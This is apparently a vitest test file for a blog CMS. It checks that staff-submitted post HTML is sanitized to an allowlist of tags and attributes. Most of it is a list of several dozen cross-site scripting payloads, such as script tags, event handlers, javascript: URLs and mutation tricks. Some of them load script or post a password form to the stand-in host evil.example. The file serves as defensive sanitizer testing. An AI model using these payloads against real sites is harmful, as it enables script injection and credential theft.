import type { BlogPost } from "@kvart/contract/content";
import type { StaffPost } from "@kvart/contract/staff/stories";
import { expect, test } from "vitest";
import { addStaff } from "../../../../test/staff-factories.ts";
import { samplePost } from "../../../../test/story-samples.ts";
import { buildTestApp } from "../../../../test/test-app.ts";

const { call, db } = await buildTestApp();
const { headers } = await addStaff(db);

async function stored(text: string): Promise<string> {
	const body = { ...samplePost, text: `<p>Uvod.</p>${text}`, text_eng: text };
	const { body: post } = await call<StaffPost>("POST", "/api/staff/blog", { headers, body });
	const { body: shown } = await call<BlogPost>("GET", `/api/blog/${post.id}`);
	expect(shown.text).toBe(`<p>Uvod.</p>${shown.text_eng}`);
	return shown.text_eng;
}

/** Known ways to inject scripts. */
const attacks = [
	"<script>alert(1)</script>",
	"<ScRiPt src=//evil.example/x.js></sCrIpT>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>",
	"<img src='/media/a.jpg' onload=alert(1) alt=x>",
	'<img src="javascript:alert(1)">',
	'<img src="data:image/svg+xml;base64,PHN2Zz4=">',
	'<img src="//evil.example/pixel.gif">',
	'<img src="http://evil.example/pixel.gif">',
	'<img srcset="https://evil.example/a.jpg 1x" src="/media/a.jpg">',
	"<svg onload=alert(1)></svg>",
	"<svg><script>alert(1)</script></svg>",
	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
	"<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
	'<iframe src="https://evil.example"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="javascript:alert(1)"></object>',
	'<embed src="javascript:alert(1)">',
	'<a href="javascript:alert(1)">x</a>',
	'<a href=" jAvAsCrIpT:alert(1)">x</a>',
	'<a href="java\nscript:alert(1)">x</a>',
	'<a href="&#106;avascript:alert(1)">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="//evil.example">x</a>',
	'<a href="#" onclick="alert(1)" onfocus=alert(1) autofocus tabindex=1>x</a>',
	'<p style="background:url(javascript:alert(1))">x</p>',
	"<style>@import 'https://evil.example/x.css';</style>",
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<base href="https://evil.example/">',
	'<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button>x</button></form>',
	"<details open ontoggle=alert(1)>x</details>",
	"<video><source onerror=alert(1)></video>",
	"<audio src=x onerror=alert(1)>",
	"<body onload=alert(1)>",
	"<marquee onstart=alert(1)>x</marquee>",
	'<template><img src=x onerror="alert(1)"></template>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	"<!--><img src=x onerror=alert(1)>-->",
	"<![CDATA[<img src=x onerror=alert(1)>]]>",
	'<p id="__proto__" class="x" data-x="1" contenteditable>x</p>',
	'<h2 id="root">x</h2>',
	"<p>x</p\n onmouseover=alert(1)>",
	"<xmp><img src=x onerror=alert(1)></xmp>",
	"<textarea><img src=x onerror=alert(1)></textarea>",
	"<title><img src=x onerror=alert(1)></title>",
];

const allowedTag = /^<\/?(p|h2|h3|ul|ol|li|strong|em|blockquote|a|br|img|figure|figcaption)( \/)?>$/;
const allowedAttribute =
	/^ (href="(https:\/\/(?!evil)|mailto:|tel:|\/(?!\/)|#)[^"<>]*"|src="(\/(?!\/)|https:\/\/(?!evil))[^"<>]*"|alt="[^"<>]*"|(width|height)="\d*"|rel="noopener noreferrer"|target="_blank")/;

/** Parses the result like a browser: only allowed tags, attributes and links may remain. */
function findings(html: string): string[] {
	return (html.match(/<[^>]*>?/g) ?? []).flatMap((tag) => {
		let rest = tag;
		for (let found = allowedAttribute.exec(rest.replace(/^<\/?\w+/, "")); found; ) {
			rest = rest.replace(found[0], "");
			found = allowedAttribute.exec(rest.replace(/^<\/?\w+/, ""));
		}
		// Attributes without an allowed value are dropped.
		const bare = rest.replace(/ (src|href|alt)(?=[ />])/g, "");
		return allowedTag.test(bare) ? [] : [tag];
	});
}

test.for(attacks)("%s is harmless", async (attack) => {
	const html = await stored(attack);
	expect(findings(html)).toEqual([]);
	expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
});

test("the check itself finds harmful HTML", () => {
	for (const html of [
		"<script>",
		'<p onclick="x">',
		'<a href="javascript:x">',
		'<img src="//evil.example">',
		"<p id=x>",
	]) {
		expect(findings(html), html).toEqual([html]);
	}
});

test("HTML of the editor is stored unchanged", async () => {
	const text =
		"<h2>Naslov</h2><p>Tekst sa <strong>jakim</strong> i <em>kosim</em> slovima, č ć š ž đ &amp; ostalo.<br />Red.</p>" +
		"<ul><li>jedan</li><li>dva</li></ul><ol><li>prvo</li></ol><blockquote><p>Citat</p></blockquote>" +
		'<img src="/media/uploads/1-0123456789.jpg" alt="Sala" width="1600" height="900" />' +
		'<p><a href="/free-training">kod nas</a>, <a href="mailto:info@kvart.example">pošta</a></p>';
	expect(await stored(text)).toBe(text);
	expect(await stored(await stored(text))).toBe(text);
});

test("external links open in a new tab without referrer", async () => {
	expect(await stored('<p><a href="https://elsewhere.example">x</a></p>')).toBe(
		'<p><a href="https://elsewhere.example" rel="noopener noreferrer" target="_blank">x</a></p>',
	);
});
